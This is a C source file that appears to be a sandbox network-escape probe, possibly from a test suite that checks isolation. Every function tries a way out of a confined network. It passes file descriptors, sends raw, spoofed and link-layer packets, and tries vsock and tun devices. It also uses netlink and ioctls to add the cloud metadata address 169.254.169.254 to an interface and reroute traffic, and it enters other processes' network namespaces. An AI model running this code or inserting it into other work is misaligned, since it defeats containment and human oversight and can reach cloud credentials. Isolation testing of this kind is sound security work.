/* Asks the kernel for other ways out: other sockets, other networks, other processes' descriptors. */
#define _GNU_SOURCE
#include "network-attack.h"

/* Offers and asks for descriptors on what the sandbox was given. */
void pass_descriptors(void)
{
	char room[CMSG_SPACE(sizeof(int))] = { 0 }, byte = 'x';
	struct iovec io = { &byte, 1 };
	for (int fd = 0; fd < 64; fd++) {
		struct msghdr message = { .msg_iov = &io, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room };
		struct cmsghdr *header = CMSG_FIRSTHDR(&message);
		*header = (struct cmsghdr){ CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS };
		memset(CMSG_DATA(header), 0, sizeof(int));
		if (sendmsg(fd, &message, MSG_DONTWAIT | MSG_NOSIGNAL) >= 0 || (errno != ENOTSOCK && errno != EBADF))
			printf("descriptor %d takes messages\n", fd);
		if (recvmsg(fd, &message, MSG_DONTWAIT) >= 0) printf("descriptor %d gives messages\n", fd);
	}
}

void descriptors(void)
{
	char path[64], target[512];
	for (int fd = 3; fd < 20000; fd++)
		if (fcntl(fd, F_GETFD) >= 0) printf("descriptor %d\n", fd);
	for (int fd = 0; fd < 3; fd++) {
		struct stat status;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t length = readlink(path, target, sizeof target);
		if (fstat(fd, &status) == 0 && S_ISSOCK(status.st_mode)) printf("socket %d %.*s\n", fd, (int)length, target);
	}
}

static uint16_t checksum(const void *bytes, size_t size)
{
	const uint8_t *at = bytes;
	uint32_t sum = 0;
	for (size_t i = 0; i + 1 < size; i += 2) sum += (uint32_t)(at[i] << 8 | at[i + 1]);
	while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* ping ADDRESS TYPE HEX: an echo, or for IPv6 any type, by a socket of SOCK type and of the ICMP protocol. */
void ping(void)
{
	struct sockaddr_storage to;
	socklen_t length = address_of(argument(2), 0, &to);
	unsigned char message[256] = { 8 };
	bool v6 = to.ss_family == AF_INET6;
	read_payload(argument(4));
	if (payload_size > 200) payload_size = 200;
	memcpy(message + 8, payload, payload_size);
	if (v6) message[0] = ICMP6_ECHO_REQUEST;
	uint16_t sum = checksum(message, 8 + ((payload_size + 1) & ~1UL));
	memcpy(message + 2, &sum, 2);
	for (int type = SOCK_DGRAM; type <= SOCK_RAW; type++) {
		int fd = socket(to.ss_family, type, v6 ? (int)IPPROTO_ICMPV6 : (int)IPPROTO_ICMP);
		if (say("ping socket", fd) < 0) continue;
		say("ping", sendto(fd, message, 8 + payload_size, 0, (struct sockaddr *)&to, length));
	}
}

/* neighbour TYPE HEX: router and neighbour messages to everybody on the link. */
void neighbour(void)
{
	struct sockaddr_storage to;
	socklen_t length = address_of("ff02::1%eth0", 0, &to);
	unsigned char message[232] = { (unsigned char)number(2) };
	read_payload(argument(3));
	memcpy(message + 32, payload, payload_size > 200 ? 200 : payload_size);
	for (int type = SOCK_DGRAM; type <= SOCK_RAW; type++) {
		int fd = socket(AF_INET6, type, IPPROTO_ICMPV6);
		if (say("socket", fd) >= 0) say("send", sendto(fd, message, sizeof message, 0, (struct sockaddr *)&to, length));
	}
}

/* raw ADDRESS PORT HEX: an IP packet of its own making, by every socket that takes one. */
void raw(void)
{
	struct sockaddr_storage to;
	socklen_t length = address_of(argument(2), number(3), &to);
	unsigned char packet[512] = { 0x45 };
	int on = 1;
	read_payload(argument(4));
	if (payload_size > 400) payload_size = 400;
	struct iphdr *ip = (struct iphdr *)packet;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons((uint16_t)(28 + payload_size));
	memcpy(&ip->daddr, &((struct sockaddr_in *)&to)->sin_addr, 4);
	inet_pton(AF_INET, "10.0.2.2", &ip->saddr);
	uint16_t head[4] = { htons(1), htons((uint16_t)number(3)), htons((uint16_t)(8 + payload_size)), 0 };
	memcpy(packet + 20, head, 8);
	memcpy(packet + 28, payload, payload_size);
	static const int protocols[] = { IPPROTO_RAW, IPPROTO_UDP, IPPROTO_TCP, IPPROTO_ICMP, IPPROTO_IPIP, IPPROTO_GRE, 253 };
	for (size_t i = 0; i < sizeof protocols / sizeof *protocols; i++) {
		int fd = socket(AF_INET, SOCK_RAW, protocols[i]);
		if (say("raw socket", fd) < 0) continue;
		setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof on);
		say("send", sendto(fd, packet, 28 + payload_size, 0, (struct sockaddr *)&to, length));
	}
}

/* Frames on the wire itself: the new way, the old way, and by any type. */
void packet(void)
{
	struct { unsigned short family, protocol; int index; unsigned short hatype; unsigned char type, size, address[8]; } to = {
		AF_PACKET, htons(0x88b5), (int)if_nametoindex("eth0"), 0, 0, 6, { 2, 0x76, 0x6f, 0, 0, 1 }
	};
	read_payload(argument(2));
	for (int type = 1; type <= 10; type++) {
		int fd = socket(AF_PACKET, type, htons(3));
		if (say("packet socket", fd) >= 0) say("send", sendto(fd, payload, payload_size, 0, (void *)&to, sizeof to));
		fd = socket(AF_INET, type == 10 ? 10 : SOCK_RAW, htons(3));
		if (fd >= 0) say("old packet socket", fd);
	}
}

/* Every address family but the three of the sandbox, with every type. */
void families(void)
{
	for (int family = 0; family < 64; family++)
		for (int type = 1; type <= 10; type++) {
			if (family == AF_UNIX || family == AF_INET || family == AF_INET6 || family == AF_NETLINK) continue;
			if (socket(family, type, 0) >= 0) printf("family %d type %d: DONE\n", family, type);
			int pair[2];
			if (socketpair(family, type, 0, pair) == 0) printf("family %d pair: DONE\n", family);
		}
}

/* transports ADDRESS PORT HEX: every transport below IPv4 and IPv6 that sockets other than raw ones reach. */
void transports(void)
{
	struct sockaddr_storage to;
	socklen_t length = address_of(argument(2), number(3), &to);
	read_payload(argument(4));
	for (int type = 1; type <= 10; type++)
		for (int protocol = 0; protocol < 300; protocol++) {
			if (protocol == IPPROTO_TCP || protocol == 262 /* MPTCP */ || type == SOCK_RAW) continue;
			if (protocol == 0 && type == SOCK_STREAM) continue;
			int fd = socket(to.ss_family, type | SOCK_NONBLOCK, protocol);
			if (fd < 0) continue;
			printf("type %d protocol %d\n", type, protocol);
			connect(fd, (struct sockaddr *)&to, length);
			send(fd, payload, payload_size, MSG_NOSIGNAL);
			usleep(2000);
			close(fd);
		}
}

void vsock(void)
{
	struct { unsigned short family, reserved; unsigned port, cid; unsigned char rest[4]; } to = { 40, 0, 1024, 2, { 0 } };
	for (int type = 1; type <= 5; type++)
		for (unsigned cid = 0; cid < 4; cid++) {
			int fd = socket(40, type, 0);
			to.cid = cid;
			if (fd >= 0 || connect(fd, (void *)&to, sizeof to) == 0) printf("vsock: DONE\n");
		}
	printf("%s\n", open("/dev/vsock", O_RDWR) >= 0 || open("/dev/vhost-vsock", O_RDWR) >= 0 ? "device: DONE" : "refused");
}

void tun(void)
{
	struct ifreq request = { .ifr_flags = IFF_TUN | IFF_NO_PI };
	mkdir("/tmp/net", 0755);
	say("mknod", mknod("/tmp/net/tun", S_IFCHR | 0666, makedev(10, 200)));
	const char *paths[] = { "/dev/net/tun", "/tmp/net/tun", "/dev/tap0", "/dev/vhost-net", "/dev/ppp" };
	for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
		int fd = open(paths[i], O_RDWR);
		if (fd >= 0) say("tun", ioctl(fd, TUNSETIFF, &request));
	}
}

/* options ADDRESS PORT HEX: options that only the privileged have, or that ask for another way; then the stream. */
void options(void)
{
	static const unsigned char routes[][12] = {
		{ IPOPT_LSRR, 7, 4, 127, 0, 0, 1, 0 }, { IPOPT_SSRR, 7, 4, 10, 0, 2, 1, 0 }, { IPOPT_RR, 7, 4, 0, 0, 0, 0, 0 },
	};
	struct sockaddr_storage to;
	int on = 1;
	socklen_t length = address_of(argument(2), number(3), &to);
	read_payload(argument(4));
	for (size_t i = 0; i < sizeof routes / sizeof *routes; i++) {
		int fd = socket(AF_INET, SOCK_STREAM, 0), datagrams = socket(AF_INET, SOCK_DGRAM, 0);
		say("source route", setsockopt(fd, IPPROTO_IP, IP_OPTIONS, routes[i], 8));
		setsockopt(datagrams, IPPROTO_IP, IP_OPTIONS, routes[i], 8);
		sendto(datagrams, payload, payload_size, 0, (struct sockaddr *)&to, length);
		if (connected(fd, (struct sockaddr *)&to, length) >= 0) send_all(fd);
	}
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	say("transparent", setsockopt(fd, IPPROTO_IP, IP_TRANSPARENT, &on, sizeof on));
	say("mark", setsockopt(fd, SOL_SOCKET, SO_MARK, &on, sizeof on));
	say("header included", setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof on));
	say("repair", setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &on, sizeof on));
	setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "eth0", 5);
	if (connected(fd, (struct sockaddr *)&to, length) >= 0) send_all(fd);
}

/* first_packet ADDRESS PORT HEX: data in the SYN itself, without a cookie. */
void first_packet(void)
{
	struct sockaddr_storage to;
	int on = 1;
	socklen_t length = address_of(argument(2), number(3), &to);
	int fd = socket(to.ss_family, SOCK_STREAM, 0);
	setsockopt(fd, IPPROTO_TCP, 34 /* TCP_FASTOPEN_NO_COOKIE */, &on, sizeof on);
	read_payload(argument(4));
	say("send", sendto(fd, payload, payload_size, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&to, length));
	print_reply(fd);
}

/* bind_to ADDRESS PORT */
void bind_to(void)
{
	static const int freely = 15, on = 1;
	struct sockaddr_storage at;
	socklen_t length = address_of(argument(2), number(3), &at);
	for (int type = SOCK_STREAM; type <= SOCK_DGRAM; type++) {
		int fd = socket(at.ss_family, type, 0);
		if (*argument(4)) setsockopt(fd, IPPROTO_IP, freely, &on, sizeof on);
		say("bind", bind(fd, (struct sockaddr *)&at, length));
	}
}

struct request {
	struct nlmsghdr header;
	union { struct ifaddrmsg address; struct rtmsg route; struct ifinfomsg link; struct ndmsg neighbour; } body;
	char attributes[128];
};

static void attribute(struct request *request, unsigned short type, const void *bytes, size_t size)
{
	struct rtattr *at = (struct rtattr *)((char *)request + NLMSG_ALIGN(request->header.nlmsg_len));
	at->rta_type = type;
	at->rta_len = (unsigned short)RTA_LENGTH(size);
	memcpy(RTA_DATA(at), bytes, size);
	request->header.nlmsg_len = NLMSG_ALIGN(request->header.nlmsg_len) + RTA_ALIGN(at->rta_len);
}

static void ask(int fd, const char *what, struct request *request, unsigned short type, unsigned short flags)
{
	struct { struct nlmsghdr header; struct nlmsgerr error; char rest[256]; } answer = { 0 };
	request->header.nlmsg_type = type;
	request->header.nlmsg_flags = (unsigned short)(NLM_F_REQUEST | NLM_F_ACK | flags);
	send(fd, request, request->header.nlmsg_len, 0);
	recv(fd, &answer, sizeof answer, 0);
	errno = -answer.error.error;
	say(what, errno ? -1 : 0);
}

/* Asks route netlink to change the sandbox's own network. */
void route_netlink(void)
{
	static const unsigned char metadata[4] = { 169, 254, 169, 254 }, gate[4] = { 10, 0, 2, 1 }, mac[6] = { 2, 2, 2, 2, 2, 2 };
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE), index = (int)if_nametoindex("eth0"), one = 1;
	if (say("route netlink", fd) < 0) return;
#define BEGIN(part) { .header.nlmsg_len = NLMSG_LENGTH(sizeof(part)) }
	struct request address = BEGIN(struct ifaddrmsg);
	address.body.address = (struct ifaddrmsg){ AF_INET, 32, 0, 0, (unsigned)index };
	attribute(&address, IFA_LOCAL, metadata, 4);
	ask(fd, "add address", &address, RTM_NEWADDR, NLM_F_CREATE);
	struct request route = BEGIN(struct rtmsg);
	route.body.route = (struct rtmsg){ .rtm_family = AF_INET, .rtm_dst_len = 32, .rtm_table = RT_TABLE_MAIN,
		.rtm_protocol = RTPROT_STATIC, .rtm_scope = RT_SCOPE_UNIVERSE, .rtm_type = RTN_UNICAST };
	attribute(&route, RTA_DST, metadata, 4);
	attribute(&route, RTA_GATEWAY, gate, 4);
	ask(fd, "add route", &route, RTM_NEWROUTE, NLM_F_CREATE);
	struct request link = BEGIN(struct ifinfomsg);
	link.body.link = (struct ifinfomsg){ .ifi_family = AF_UNSPEC, .ifi_index = index, .ifi_flags = 0, .ifi_change = IFF_UP };
	ask(fd, "link down", &link, RTM_NEWLINK, 0);
	struct request move = BEGIN(struct ifinfomsg);
	move.body.link.ifi_index = index;
	attribute(&move, IFLA_NET_NS_PID, &one, 4);
	ask(fd, "move link", &move, RTM_NEWLINK, 0);
	struct request made = BEGIN(struct ifinfomsg);
	attribute(&made, IFLA_IFNAME, "planted", 8);
	ask(fd, "new link", &made, RTM_NEWLINK, NLM_F_CREATE | NLM_F_EXCL);
	struct request near = BEGIN(struct ndmsg);
	near.body.neighbour = (struct ndmsg){ .ndm_family = AF_INET, .ndm_ifindex = index, .ndm_state = 0x80 };
	attribute(&near, NDA_DST, gate, 4);
	attribute(&near, NDA_LLADDR, mac, 6);
	ask(fd, "new neighbour", &near, RTM_NEWNEIGH, NLM_F_CREATE | NLM_F_REPLACE);
	struct request rule = BEGIN(struct rtmsg);
	rule.body.route = (struct rtmsg){ .rtm_family = AF_INET, .rtm_table = RT_TABLE_LOCAL, .rtm_type = 1 };
	ask(fd, "new rule", &rule, RTM_NEWRULE, NLM_F_CREATE);
}

/* The other netlink families: nft, conntrack, IPsec, socket diagnosis, generic. */
void other_netlink(void)
{
	for (int protocol = 1; protocol < 32; protocol++)
		for (int type = 1; type <= 5; type++)
			if (socket(AF_NETLINK, type, protocol) >= 0) printf("netlink %d: DONE\n", protocol);
}

void interface_ioctl(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct ifreq request = { .ifr_name = "eth0" };
	ioctl(fd, SIOCGIFFLAGS, &request);
	request.ifr_flags |= IFF_PROMISC;
	say("flags", ioctl(fd, SIOCSIFFLAGS, &request));
	struct ifreq changed = { .ifr_name = "eth0" };
	address_of("169.254.169.254", 0, (struct sockaddr_storage *)&changed.ifr_addr);
	say("address", ioctl(fd, SIOCSIFADDR, &changed));
	struct ifreq mtu = { .ifr_name = "eth0", .ifr_mtu = 9000 };
	say("mtu", ioctl(fd, SIOCSIFMTU, &mtu));
	struct ifreq name = { .ifr_name = "eth0", .ifr_newname = "eth1" };
	say("name", ioctl(fd, SIOCSIFNAME, &name));
	say("bridge", ioctl(fd, 0x89a0 /* SIOCBRADDBR */, "br0"));
}

/* Any network namespace that /proc shows, and a new one. */
void namespaces(void)
{
	DIR *processes = opendir("/proc");
	struct stat own, other;
	char path[300];
	stat("/proc/self/ns/net", &own);
	for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
		snprintf(path, sizeof path, "/proc/%s/ns/net", entry->d_name);
		int fd = open(path, O_RDONLY);
		if (fd < 0) continue;
		if (fstat(fd, &other) == 0 && other.st_ino != own.st_ino) printf("another network: %s\n", path);
		say("setns", syscall(SYS_setns, fd, CLONE_NEWNET));
		int process = (int)syscall(434 /* pidfd_open */, atoi(entry->d_name), 0);
		if (process >= 0) say("setns by process", syscall(SYS_setns, process, CLONE_NEWNET));
	}
	say("unshare", syscall(SYS_unshare, CLONE_NEWNET));
	say("unshare user", syscall(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNET));
	say("clone", syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNET | 17, 0, 0, 0, 0));
}

/* frames TYPE SIZE COUNT: whole frames out of eth0; those of IPv4 look like TCP that no connection knows. */
void frames(void)
{
	unsigned char frame[1514] = { 2, 0x76, 0x6f, 0, 0, 1, 2, 0x76, 0x6f, 0, 0, 2 };
	struct { unsigned short family, protocol; int index; unsigned short hatype; unsigned char type, size, address[8]; } to = {
		AF_PACKET, 0, (int)if_nametoindex("eth0"), 0, 0, 6, { 2, 0x76, 0x6f, 0, 0, 1 }
	};
	unsigned type = (unsigned)strtoul(argument(2), NULL, 16);
	int fd = (int)say("packet socket", socket(AF_PACKET, SOCK_RAW, 0));
	frame[12] = (unsigned char)(type >> 8);
	frame[13] = (unsigned char)type;
	struct iphdr ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .tot_len = htons((uint16_t)(number(3) - 14)) };
	inet_pton(AF_INET, "10.0.2.2", &ip.saddr);
	inet_pton(AF_INET, "93.184.216.34", &ip.daddr);
	if (type == 0x0800) memcpy(frame + 14, &ip, sizeof ip);
	for (int i = 0; i < number(4); i++)
		if (sendto(fd, frame, (size_t)number(3), 0, (void *)&to, sizeof to) < 0) say("send", -1);
}
